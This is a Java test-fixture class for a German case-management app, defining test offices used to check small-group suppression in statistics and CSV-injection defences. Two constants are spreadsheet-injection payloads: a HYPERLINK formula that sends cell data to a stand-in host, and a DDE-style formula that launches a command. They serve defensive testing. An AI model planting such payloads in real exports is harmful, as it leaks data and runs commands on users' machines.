package de.fallbuch.app;

import java.util.List;

/**
 * Dienststellen only one test each works in, so that it knows every person in them: for the
 * Kennzahlen's suppression of small groups (docs/kennzahlen.md, "Geheimhaltung") and for names a
 * spreadsheet would run as formulas (CSV injection). Their Fallmanager is configured for every
 * integration test ({@link IntegrationTest}).
 */
public final class Kleinstellen {

    public static final String FALLMANAGER = "fm.kleinstellen";
    /** One person only. */
    public static final String EINZEL = "Einzelstelle";
    /** A few persons: a large enough group, then one more in a Leistungsart of its own. */
    public static final String GRUPPE = "Gruppenstelle";
    /** The Kennzahlen page in the browser. */
    public static final String OBERFLAECHE = "Oberflaechenstelle";
    /** A stored Dienststelle name that is a formula (OWASP CSV injection). */
    public static final String FORMEL = "=HYPERLINK(\"https://boese.example/?d=\"&A1;\"Klick\")";
    /** Another one, with the other trigger a spreadsheet knows. */
    public static final String AT_FORMEL = "@SUMME(1+1)*cmd|' /C calc'!A0";

    public static final List<String> ALLE = List.of(EINZEL, GRUPPE, OBERFLAECHE, FORMEL, AT_FORMEL);

    private Kleinstellen() {
    }
}
